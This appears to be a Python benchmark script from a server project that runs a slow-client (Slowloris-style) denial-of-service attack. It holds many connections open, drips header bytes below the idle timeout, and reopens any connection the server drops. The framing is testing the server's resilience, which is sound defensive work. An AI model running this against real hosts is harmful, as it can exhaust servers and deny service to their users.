#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Slow-client attack for pelbixsolo-server benchmarks.

Keeps COUNT connections from one source address open against HOST:PORT,
each sending a request one header byte at a time every few seconds (below
a 5-second idle time-out) and never finishing it. A connection the server
closes is opened again after a short pause, as a persistent attacker would.
Runs until SIGTERM/SIGINT, then prints how many connections were open and
how many times the server closed one.

    slowclients.py PORT [COUNT] [FROM_ADDRESS] [HOST]
"""
import asyncio
import resource
import signal
import socket
import sys

port = int(sys.argv[1])
count = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
source = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
host = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
DRIP_SECONDS = 4
REOPEN_PAUSE = 0.2

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))

open_now = 0
closed_by_server = 0


async def one_client(stop):
    global open_now, closed_by_server
    while not stop.is_set():
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            sock.bind((source, 0))
            await asyncio.get_running_loop().sock_connect(sock, (host, port))
            reader, writer = await asyncio.open_connection(sock=sock)
        except OSError:
            sock.close()
            await asyncio.sleep(REOPEN_PAUSE)
            continue
        open_now += 1
        try:
            writer.write(b"GET /counter/pelbixsolo.shtml HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1), DRIP_SECONDS)
                    if not data:
                        break  # closed by the server
                except asyncio.TimeoutError:
                    writer.write(b"s")
                    await writer.drain()
        except OSError:
            pass
        finally:
            open_now -= 1
            writer.close()
        if not stop.is_set():
            closed_by_server += 1
            await asyncio.sleep(REOPEN_PAUSE)


async def main():
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for s in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(s, stop.set)
    tasks = [asyncio.create_task(one_client(stop)) for _ in range(count)]
    await stop.wait()
    print(f"slow clients: {open_now} open at the end, {closed_by_server} closed by the server", flush=True)
    for t in tasks:
        t.cancel()


asyncio.run(main())
